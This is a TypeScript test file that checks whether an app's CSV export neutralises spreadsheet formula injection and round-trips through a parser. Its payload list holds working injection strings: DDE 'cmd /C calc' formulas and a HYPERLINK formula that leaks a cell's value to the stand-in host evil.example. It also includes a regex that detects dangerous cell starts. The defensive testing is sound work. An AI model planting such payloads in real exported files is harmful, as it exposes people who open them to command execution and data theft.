/**
 * Exports: every CSV the app writes neutralises formula injection (OWASP "CSV
 * injection"), including values that start with a line break and multi-line values, and
 * stays a faithful CSV (a parser reads back exactly the neutralised text).
 */
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { neutraliseFormula, toCsv } from '../../shared/charts/csv';
import type { CsvCell } from '../../shared/charts/csv';

/** What a spreadsheet would treat as a formula at the start of a cell or of a line in it. */
const DANGEROUS_START = /^[ ]*[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/;

const PAYLOADS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '   =1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  'Sales\n=1+1',
  'Sales\r\n@SUM(A1)',
  'Sales\r+1',
  'line one\n\n-2+3',
  '"=1+1"',
  "'=1+1",
];

function parse(csv: string): string[][] {
  const res = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { delimiter: ',', newline: '\r\n', skipEmptyLines: false });
  expect(res.errors).toEqual([]);
  return res.data.filter((r) => !(r.length === 1 && r[0] === ''));
}

describe('CSV export: formula injection', () => {
  it.each(PAYLOADS.map((p) => [JSON.stringify(p), p]))('neutralises %s at the start of the cell and of every line', (_label, payload) => {
    const out = neutraliseFormula(payload);
    for (const line of out.split(/\r\n|\r|\n/)) expect(line, JSON.stringify(out)).not.toMatch(DANGEROUS_START);
    // Only apostrophes are added: the text itself is kept.
    expect(out.replace(/'/g, '')).toBe(payload.replace(/'/g, ''));
  });

  it('leaves harmless text and numbers alone; negative numbers stay numbers', () => {
    for (const text of ['Sales', 'R&D', 'a=b', 'x-y', 'name@example.org', '', 'fewer than 5']) expect(neutraliseFormula(text)).toBe(text);
    const csv = toCsv([['value'], [-0.25], [-3], [1e-7], [0]]);
    expect(parse(csv)).toEqual([['value'], ['-0.25'], ['-3'], ['1e-7'], ['0']]);
  });

  it('round-trips through a CSV parser to the neutralised text, quoting as RFC 4180 needs', () => {
    const rows: CsvCell[][] = [['label', 'value'], ...PAYLOADS.map((p, i) => [p, i]), [null, undefined], [true, Number.NaN]];
    const csv = toCsv(rows, { bom: true });
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    const back = parse(csv);
    expect(back).toHaveLength(rows.length);
    PAYLOADS.forEach((p, i) => {
      const cell = back[i + 1]![0]!;
      expect(cell).toBe(neutraliseFormula(p));
      for (const line of cell.split(/\r\n|\r|\n/)) expect(line).not.toMatch(DANGEROUS_START);
    });
    expect(back.at(-2)).toEqual(['', '']);
    expect(back.at(-1)).toEqual(['true', '']);
  });

  it('keeps a cell with a quote, comma or line break inside one field', () => {
    const csv = toCsv([['a "quoted", text\nover lines', 'next']]);
    expect(parse(csv)).toEqual([['a "quoted", text\nover lines', 'next']]);
  });
});
